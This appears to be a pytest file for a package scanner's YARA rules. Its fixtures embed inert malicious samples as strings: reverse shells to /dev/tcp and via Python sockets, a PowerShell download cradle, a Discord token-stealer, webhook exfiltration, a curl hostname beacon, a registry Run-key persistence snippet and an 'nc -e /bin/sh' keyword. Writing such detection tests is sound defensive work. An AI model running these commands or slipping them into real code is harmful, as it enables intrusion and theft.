"""YARA rule pack: one positive fixture per behaviour folder, negatives on ordinary code,
executables graded by where they sit, meta validation and user rules (`--rules`)."""

from __future__ import annotations

import base64
import struct
from pathlib import Path

import pytest

from builders import BENIGN_SETUP, make_sdist, make_wheel
from pkgvet.analyzer import yara_scan
from pkgvet.analyzer.yara_scan import RuleError, YaraAnalyzer, builtin_rule_files, load_rules
from pkgvet.model import Category, Context, Finding, Phase, Severity, Verdict
from pkgvet.options import ScanOptions
from pkgvet.package import load
from pkgvet.sources.local import local_artifact
from pkgvet.verdict import decide

DATA = Path(__file__).parent / "data" / "real"
WEBHOOK = (
    "https://discord.com/api/webhooks/123456789012345678/"
    "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abcdefghij"
)
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
PE = b"MZ" + b"\x00" * 58 + struct.pack("<I", 0x40) + b"PE\x00\x00" + b"\x00" * 60


def analyzer(extra: tuple[Path, ...] = ()) -> YaraAnalyzer:
    return yara_scan.create(ScanOptions(extra_rules=extra))


def scan(path: Path, extra: tuple[Path, ...] = ()) -> list[Finding]:
    an = analyzer(extra)
    pkg = load(local_artifact(path), [an.scan_blob])
    return list(pkg.findings) + list(an.analyze(pkg))


def mine(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.analyzer == "yara"]


def ids(findings: list[Finding]) -> list[str]:
    return sorted(f.rule_id for f in mine(findings))


def wheel(tmp_path: Path, files: dict[str, str | bytes], tag: str = "py3-none-any") -> Path:
    base = {"fixture/__init__.py": ""}
    return make_wheel(tmp_path, "fixture", "1.0", {**base, **files}, tag=tag)


# -- the pack ------------------------------------------------------------------------------


def test_every_behaviour_folder_has_rules_and_ids_are_unique() -> None:
    folders = {p.parent.name for p in builtin_rule_files()}
    assert folders == {"exfil", "credentials", "dropper", "persistence", "obfuscation",
                       "binary", "reverse-shell", "miner"}
    metas = list(load_rules().meta.values())
    assert len({m.id for m in metas}) == len(metas)
    assert all(m.id.startswith("PV6") for m in metas)


# -- positives, one per folder -------------------------------------------------------------


def test_exfil_discord_webhook_in_module(tmp_path: Path) -> None:
    src = f'import json\n\nHOOK = "{WEBHOOK}"\n'
    found = mine(scan(wheel(tmp_path, {"fixture/report.py": src})))
    hit = [f for f in found if f.rule_id == "PV601"]
    assert hit and hit[0].line == 3 and WEBHOOK[:40] in hit[0].snippet
    assert hit[0].category is Category.EXFILTRATION
    assert hit[0].phase is Phase.IMPORT and hit[0].context is Context.PACKAGE
    assert decide(found) is Verdict.SUSPICIOUS


def test_credentials_discord_token_stealer_is_malicious(tmp_path: Path) -> None:
    src = (
        "import os, re\n"
        "path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
        "for regex in (r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', r'mfa\\.[\\w-]{84}'):\n"
        "    pass\n"
    )
    found = mine(scan(wheel(tmp_path, {"fixture/grab.py": src})))
    hit = [f for f in found if f.rule_id == "PV610"]
    assert hit and hit[0].severity is Severity.CRITICAL and hit[0].line == 2
    assert decide(found) is Verdict.MALICIOUS


def test_dropper_powershell_cradle_in_setup_py_is_install_time(tmp_path: Path) -> None:
    setup = (
        "import subprocess\n"
        "CMD = \"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/a')\"\n"
        + BENIGN_SETUP.format(name="fixture", version="1.0")
    )
    found = mine(scan(make_sdist(tmp_path, "fixture", "1.0", {"setup.py": setup})))
    hit = [f for f in found if f.rule_id == "PV630"]
    assert hit and hit[0].phase is Phase.INSTALL and hit[0].line == 2
    assert hit[0].path == "fixture-1.0/setup.py"


def test_dropper_encoded_powershell(tmp_path: Path) -> None:
    payload = base64.b64encode("Write-Output 'inert fixture'".encode("utf-16-le")).decode()
    src = f'CMD = "powershell -WindowStyle Hidden -EncodedCommand {payload}"\n'
    assert "PV631" in ids(scan(wheel(tmp_path, {"fixture/win.py": src})))


def test_persistence_run_key(tmp_path: Path) -> None:
    src = (
        "import winreg\n"
        "key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
        "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(key, 'fixture', 0, winreg.REG_SZ, 'C:\\\\nowhere.exe')\n"
    )
    assert "PV640" in ids(scan(wheel(tmp_path, {"fixture/boot.py": src})))


def test_obfuscation_commented_out_exec_b64decode(tmp_path: Path) -> None:
    """The Python analyzer sees live calls; this text rule also sees dead or foreign ones."""
    src = "# exec(base64.b64decode('cHJpbnQoMSk='))\nVALUE = 1\n"
    found = mine(scan(wheel(tmp_path, {"fixture/mod.py": src})))
    assert [(f.rule_id, f.line) for f in found] == [("PV650", 1)]


def test_obfuscation_variant_with_dunder_import_and_zlib(tmp_path: Path) -> None:
    src = "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
    src += "exec((_)(b'=inert'))\n"
    found = mine(scan(wheel(tmp_path, {"fixture/mod.py": src})))
    assert "PV651" in {f.rule_id for f in found}


def test_reverse_shell_in_shell_script(tmp_path: Path) -> None:
    sh = "#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n"
    found = mine(scan(wheel(tmp_path, {"fixture/run.sh": sh})))
    hit = [f for f in found if f.rule_id == "PV620"]
    assert hit and hit[0].line == 2 and hit[0].severity is Severity.HIGH


def test_reverse_shell_python_socket_dup2_pty(tmp_path: Path) -> None:
    src = (
        "import socket, os, pty\n"
        "s = socket.socket()\n"
        "s.connect(('127.0.0.1', 9))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n"
        "pty.spawn('/bin/sh')\n"
    )
    assert "PV622" in ids(scan(wheel(tmp_path, {"fixture/shell.py": src})))


def test_miner_stratum_url(tmp_path: Path) -> None:
    src = 'POOL = "stratum+tcp://pool.example.invalid:3333"\n'
    assert "PV660" in ids(scan(wheel(tmp_path, {"fixture/m.py": src})))


def test_binary_elf_in_pure_wheel_is_medium_and_alone_benign(tmp_path: Path) -> None:
    found = mine(scan(wheel(tmp_path, {"fixture/helper": ELF})))
    assert [(f.rule_id, f.severity, f.phase) for f in found] == [
        ("PV671", Severity.MEDIUM, Phase.ARCHIVE)
    ]
    assert found[0].path == "fixture/helper"
    assert decide(found) is Verdict.BENIGN


def test_binary_disguised_as_image_is_high(tmp_path: Path) -> None:
    found = mine(scan(wheel(tmp_path, {"fixture/logo.png": PE})))
    assert [(f.rule_id, f.severity) for f in found] == [("PV670", Severity.HIGH)]
    assert decide(found) is Verdict.SUSPICIOUS


def test_binary_in_sdist_outside_build_dirs(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "fixture", "1.0", {"fixture/tool": ELF, "build/lib/x.so": ELF})
    found = mine(scan(sdist))
    assert [(f.rule_id, f.path) for f in found] == [("PV671", "fixture-1.0/fixture/tool")]


def test_pip_launcher_path_is_info(tmp_path: Path) -> None:
    found = mine(scan(wheel(tmp_path, {"pip/_vendor/distlib/t64.exe": PE,
                                       "setuptools/cli-64.exe": PE})))
    assert {(f.rule_id, f.severity) for f in found} == {("PV670", Severity.INFO)}
    assert len(found) == 2


# -- negatives -----------------------------------------------------------------------------


def test_so_in_platform_wheel_is_normal(tmp_path: Path) -> None:
    found = scan(wheel(tmp_path, {"fixture/_speedups.cpython-311-x86_64-linux-gnu.so": ELF},
                       tag="cp311-cp311-manylinux_2_17_x86_64"))
    assert mine(found) == []


def test_ngrok_word_in_docs_is_no_finding(tmp_path: Path) -> None:
    docs = "Expose your dev server with ngrok, e.g. `ngrok http 8000`, then share the URL.\n"
    found = scan(make_sdist(tmp_path, "fixture", "1.0", {
        "docs/tunnels.md": docs, "fixture/__init__.py": "",
    }))
    assert mine(found) == []


def test_webhook_placeholder_is_no_finding(tmp_path: Path) -> None:
    src = 'URL = "https://discord.com/api/webhooks/{id}/{token}"\n'
    assert mine(scan(wheel(tmp_path, {"fixture/hooks.py": src}))) == []


def test_benign_requests_like_module(tmp_path: Path) -> None:
    src = (
        "import base64, socket, subprocess, urllib.request\n"
        "def fetch(url):\n    return urllib.request.urlopen(url).read()\n"
        "def auth(user, pw):\n    return base64.b64encode(f'{user}:{pw}'.encode())\n"
        "def run(cmd):\n    return subprocess.run(cmd, check=True)\n"
    )
    assert mine(scan(wheel(tmp_path, {"fixture/api.py": src}))) == []


@pytest.mark.parametrize("name", ["requests-2.32.3-py3-none-any.whl", "requests-2.32.3.tar.gz"])
def test_real_requests_has_no_yara_findings(name: str) -> None:
    assert mine(scan(DATA / name)) == []


# -- rule loading --------------------------------------------------------------------------


def test_rule_without_meta_fails_naming_file_and_rule(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yar"
    bad.write_text('rule no_meta { strings: $a = "x" condition: $a }\n')
    with pytest.raises(RuleError) as err:
        load_rules((bad,))
    assert "no_meta" in str(err.value) and str(bad) in str(err.value)
    assert "id" in str(err.value)


def test_rule_with_bad_severity_fails(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yar"
    bad.write_text(
        'rule bad_sev { meta: id = "X1" description = "d" severity = "extreme" '
        'confidence = "high" category = "network" strings: $a = "x" condition: $a }\n'
    )
    with pytest.raises(RuleError, match="bad_sev"):
        load_rules((bad,))


def test_duplicate_id_fails(tmp_path: Path) -> None:
    dup = tmp_path / "dup.yar"
    dup.write_text(
        'rule dup { meta: id = "PV601" description = "d" severity = "low" '
        'confidence = "high" category = "network" strings: $a = "x" condition: $a }\n'
    )
    with pytest.raises(RuleError, match="PV601"):
        load_rules((dup,))


def test_syntax_error_names_file(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yar"
    broken.write_text("rule broken { condition: \n")
    with pytest.raises(RuleError, match=r"broken\.yar"):
        load_rules((broken,))


def test_extra_rules_folder_adds_rules(tmp_path: Path) -> None:
    rules = tmp_path / "myrules"
    rules.mkdir()
    (rules / "house.yara").write_text(
        'rule house_marker { meta: id = "ACME1" description = "ACME internal marker" '
        'severity = "high" confidence = "medium" category = "exfiltration" '
        'strings: $a = "acme-secret-marker" condition: $a }\n'
    )
    pkgdir = tmp_path / "pkg"
    pkgdir.mkdir()
    found = mine(scan(wheel(pkgdir, {"fixture/x.py": "A = 1\nB = 'acme-secret-marker'\n"}),
                      extra=(rules,)))
    assert [(f.rule_id, f.line, f.severity) for f in found] == [("ACME1", 2, Severity.HIGH)]


def test_missing_extra_rules_path_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(RuleError, match="does not exist"):
        load_rules((tmp_path / "nope.yar",))


def test_rules_compile_once_per_process() -> None:
    assert load_rules() is load_rules()


def test_attack_string_in_data_file_is_one_level_lower(tmp_path: Path) -> None:
    """A guardrail's keyword list (litellm ships one) describes a shell, it does not open one."""
    data = '- keyword: "nc -e /bin/sh"\n'
    found = mine(scan(wheel(tmp_path, {"fixture/keywords.yaml": data})))
    assert [(f.rule_id, f.severity, f.phase) for f in found] == [
        ("PV621", Severity.MEDIUM, Phase.RUNTIME)
    ]
    assert decide(found) is Verdict.BENIGN


def test_installer_one_liner_is_no_cradle(tmp_path: Path) -> None:
    src = 'HINT = \'powershell -ExecutionPolicy ByPass -c "irm https://example.invalid/install.ps1 | iex"\'\n'
    assert mine(scan(wheel(tmp_path, {"fixture/hint.py": src}))) == []


def test_obfuscation_fernet_encrypted_exec(tmp_path: Path) -> None:
    src = "from cryptography.fernet import Fernet\nexec(Fernet(b'a2V5').decrypt(b'gAAAAinert'))\n"
    found = mine(scan(make_sdist(tmp_path, "fixture", "1.0", {"setup.py": src})))
    hit = [f for f in found if f.rule_id == "PV651"]
    assert hit and hit[0].line == 2 and hit[0].phase is Phase.INSTALL


def test_dropper_exe_url_on_raw_ip(tmp_path: Path) -> None:
    src = 'URL = "http://127.0.0.1:8080/files/update.exe"\n'
    assert "PV633" in ids(scan(wheel(tmp_path, {"fixture/upd.py": src})))


def test_dropper_exec_of_fetched_code_in_written_string(tmp_path: Path) -> None:
    """A payload written as bytes into a temp file is text, not a call: only YARA sees it."""
    src = (
        "import tempfile\n"
        "tmp = tempfile.NamedTemporaryFile(delete=False)\n"
        "tmp.write(b\"\"\"from urllib.request import urlopen as u;exec(u('http://127.0.0.1:9/x').read())\"\"\")\n"
    )
    found = mine(scan(make_sdist(tmp_path, "fixture", "1.0", {"setup.py": src})))
    assert [(f.rule_id, f.line, f.phase) for f in found] == [("PV634", 3, Phase.INSTALL)]


def test_exfil_shell_recon_beacon(tmp_path: Path) -> None:
    src = "CMD = 'curl -H \"Hostname: $(hostname)\" -d x https://collect.example.invalid/'\n"
    assert "PV606" in ids(scan(wheel(tmp_path, {"fixture/c.py": src})))


def test_binary_macho_in_pure_wheel(tmp_path: Path) -> None:
    macho = b"\xcf\xfa\xed\xfe" + b"\x00" * 60
    assert ids(scan(wheel(tmp_path, {"fixture/bin/helper": macho}))) == ["PV672"]


def test_pyarmor_marker_is_medium(tmp_path: Path) -> None:
    src = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PY00')\n"
    found = mine(scan(wheel(tmp_path, {"fixture/core.py": src})))
    assert [(f.rule_id, f.severity) for f in found] == [("PV652", Severity.MEDIUM)]


def test_text_rule_in_streamed_binary_member(tmp_path: Path) -> None:
    """A .pyc is never kept as text; its windows go through scan_blob with the same rules."""
    pyc = b"\xa7\x0d\x0d\x0a" + b"\x00" * 12 + b"\xe3\x00exec(base64.b64decode(\x00\x00"
    found = mine(scan(wheel(tmp_path, {"fixture/__pycache__/m.cpython-311.pyc": pyc})))
    assert [(f.rule_id, f.line, f.phase) for f in found] == [("PV650", None, Phase.IMPORT)]
